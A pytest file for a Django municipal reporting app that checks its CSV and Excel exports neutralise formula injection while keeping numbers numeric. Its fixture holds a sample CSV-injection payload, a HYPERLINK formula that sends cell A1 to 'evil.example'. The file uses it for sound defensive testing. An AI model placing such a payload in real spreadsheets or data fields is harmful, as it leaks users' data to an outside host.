"""Text that a spreadsheet program would run as a formula is neutralised in every spreadsheet and
CSV the product writes; numbers stay numbers. CSV needs the leading apostrophe (the program
guesses the type); a workbook stores the text unchanged as a string cell, which never runs."""

import csv
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from digitalbilanz.reports import service
from digitalbilanz.spreadsheet import safe_cell
from digitalbilanz.testing import Factory

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"klick")'
TABBED = "\t=1+1"  # a tab in front is skipped by some spreadsheet programs


@pytest.fixture
def town(db):
    town = Factory.municipality()
    measure = Factory.measure(town, code="M-1", title=EVIL, description=TABBED, goals="@SUM(A1:A9)")
    Factory.line(measure, amount="1000")  # costs without benefit: a negative NPV
    return town


def cells(content):
    book = load_workbook(io.BytesIO(content))
    return [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]


def test_safe_cell_prefixes_formula_text_and_leaves_other_values_alone():
    for text in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
        assert safe_cell(text) == "'" + text
    assert safe_cell("Bürgerportal = Service") == "Bürgerportal = Service"
    assert safe_cell(-12.5) == -12.5 and safe_cell(None) is None and safe_cell(True) is True


def test_published_report_workbook_keeps_the_formula_title_as_text(town):
    edition = service.publish(service.create_draft(town, "2024-H2", "public"), confirm=True)
    found = cells(bytes(edition.file("xlsx").content))
    assert not [c for c in found if c.data_type == "f"]
    assert EVIL in [c.value for c in found if c.data_type == "s"]
    assert any(isinstance(c.value, float | int) and c.value < 0 for c in found)  # NPV stays a number


def test_open_data_csv_neutralises_formula_text_but_not_numbers(town):
    content = Client().get(f"/{town.slug}/daten/measures.csv").content.decode()
    row = next(csv.DictReader(io.StringIO(content)))
    assert row["title"] == "'" + EVIL
    assert row["description"] == "'" + TABBED and row["goals"] == "'@SUM(A1:A9)"
    figures = Client().get(f"/{town.slug}/daten/figures.csv").content.decode()
    npv = next(csv.DictReader(io.StringIO(figures)))["npv_kn"]
    assert npv.startswith("-") and float(npv) < 0


def test_open_data_workbook_neutralises_formula_text_but_not_numbers(town):
    found = cells(Client().get(f"/{town.slug}/daten/measures.xlsx").content)
    values = [c.value for c in found]
    assert not [c for c in found if c.data_type == "f"]
    assert EVIL in values and TABBED in values and "@SUM(A1:A9)" in values
    assert not [v for v in values if isinstance(v, str) and v.startswith("'")]
    figures = cells(Client().get(f"/{town.slug}/daten/figures.xlsx").content)
    assert any(isinstance(c.value, float | int) and c.value < 0 for c in figures)


def test_data_page_says_what_was_done_and_why(town):
    html = Client().get(f"/{town.slug}/daten/").content.decode()
    assert "CSV-Injection" in html and "Apostroph" in html
    assert "Apostroph" in Client().get(f"/{town.slug}/daten/spalten/").content.decode()


def test_every_module_that_writes_spreadsheets_uses_safe_cell():
    """A new export (csv.writer, openpyxl) must go through ``digitalbilanz.spreadsheet``."""
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    writers = [
        p
        for p in root.rglob("*.py")
        if "tests" not in p.parts and ("csv.writer" in (t := p.read_text()) or "openpyxl" in t)
    ]
    assert writers  # the check finds the open-data engine and the report workbook
    writers = [p for p in writers if p.name != "spreadsheet.py"]
    csv_writers = [p for p in writers if "csv.writer" in p.read_text()]
    assert [p.name for p in csv_writers if "safe_cell" not in p.read_text()] == []
    workbooks = [p for p in writers if "openpyxl" in p.read_text()]
    helpers = ("text_cell", "append_row")  # typed strings: never a formula, no apostrophe
    assert [p.name for p in workbooks if not any(h in p.read_text() for h in helpers)] == []
    # a workbook writer uses safe_cell only if it also writes CSV (the apostrophe belongs there)
    assert [p.name for p in workbooks if "safe_cell" in p.read_text() and p not in csv_writers] == []


def test_harmless_text_in_a_workbook_keeps_no_apostrophe(town):
    from digitalbilanz.portfolio.models import Measure

    Measure.objects.filter(municipality=town).update(goals="-5 Ziel")
    values = [c.value for c in cells(Client().get(f"/{town.slug}/daten/measures.xlsx").content)]
    assert "-5 Ziel" in values and "'-5 Ziel" not in values
    row = next(csv.DictReader(io.StringIO(Client().get(f"/{town.slug}/daten/measures.csv").content.decode())))
    assert row["goals"] == "'-5 Ziel"  # CSV still needs it: the program would read a formula


def test_empty_text_is_no_value_in_json_csv_and_xlsx(town):
    import json

    from digitalbilanz.portfolio.models import Measure

    Measure.objects.filter(municipality=town).update(goals="")
    client = Client()
    record = json.loads(client.get(f"/{town.slug}/daten/measures.json").content)[0]
    assert record["goals"] is None
    row = next(
        csv.DictReader(
            io.StringIO(client.get(f"/{town.slug}/daten/measures.csv").content.decode("utf-8-sig"))
        )
    )
    assert row["goals"] == ""
    book = load_workbook(io.BytesIO(client.get(f"/{town.slug}/daten/measures.xlsx").content))
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    assert sheet.cell(row=2, column=header.index("goals") + 1).value is None
